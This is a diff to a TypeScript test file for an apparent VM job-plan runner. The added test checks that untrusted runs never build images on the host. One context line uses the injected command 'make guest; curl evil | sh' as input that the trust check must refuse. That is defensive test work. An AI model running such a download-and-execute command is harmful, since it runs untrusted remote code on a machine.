@@ -1,10 +1,11 @@
-import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { enforceTrust } from '../../src/engine/trust-check.js';
 import { InputError } from '../../src/errors.js';
 import { ImageCache, imageCacheKey } from '../../src/images/cache.js';
+import { HostImagePreparer } from '../../src/images/preparer.js';
 import { buildPlan } from '../../src/plan/build.js';
 import { parsePlan, serializePlan } from '../../src/plan/io.js';
 import {
@@ -19,6 +20,8 @@ import {
   parseUntrustedLimit,
   untrustedLimitProblems,
 } from '../../src/plan/untrusted-limits.js';
+import { JobLog } from '../../src/records/job-log.js';
+import { Masker } from '../../src/util/mask.js';
 import { context, jobs, jobsErrors } from '../support/jobs.js';
 
 // The trust rules in-process (no action, no processes): which events are trusted, and what an untrusted plan may
@@ -312,6 +315,44 @@ jobs:
     expect(await refusal(yaml('make guest; curl evil | sh'), root, cacheDir)).toMatch(
       /not in the image cache/,
     );
+  });
+
+  it("an untrusted run's image preparer never runs a build command or nix, even for a plan that got past the check", async () => {
+    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
+    const cacheDir = mkdtempSync(join(tmpdir(), 'vmplan-trust-cache-'));
+    const marker = join(root, 'the-build-ran');
+    const yaml = `version: 1\nimages:\n  b: { arch: arm64, build: 'touch ${marker}' }\n  n: { arch: arm64, nix: '.#guest' }\njobs:\n  t: { image: b, executor: qemu, run: 'true' }\n  u: { image: n, executor: qemu, run: 'true' }\n`;
+    const plan = buildPlan(jobs(yaml), context());
+    const prepare = (image: string, buildOnHost: boolean) => {
+      const node = plan.nodes.find((each) => each.kind === 'prepare' && each.image === image)!;
+      if (node.kind !== 'prepare') throw new Error('expected a prepare node');
+      const nodeDir = mkdtempSync(join(cacheDir, 'node-'));
+      return new HostImagePreparer(cacheDir, process.env, { buildOnHost }).prepare({
+        runId: 'r1',
+        plan,
+        node,
+        nodeDir,
+        repositoryRoot: root,
+        signal: new AbortController().signal,
+        log: new JobLog(join(nodeDir, 'host.log'), new Masker([]), undefined),
+        killGraceMs: () => 1000,
+        onProcess: () => {},
+      });
+    };
+    expect(await prepare('b', false)).toMatchObject({
+      status: 'failed',
+      message: expect.stringMatching(
+        /^image "b" \(key [0-9a-f]{32}\) is not in the image cache, and an untrusted run never builds one$/,
+      ),
+    });
+    expect(await prepare('n', false)).toMatchObject({
+      status: 'failed',
+      message: 'a nix image is never prepared on the host in an untrusted run',
+    });
+    expect(existsSync(marker)).toBe(false);
+    // The control: a trusted run's preparer does run it.
+    await prepare('b', true);
+    expect(existsSync(marker)).toBe(true);
   });
 
   it('never reads a file outside the repository to key a build image, even when its command names a link to it', async () => {
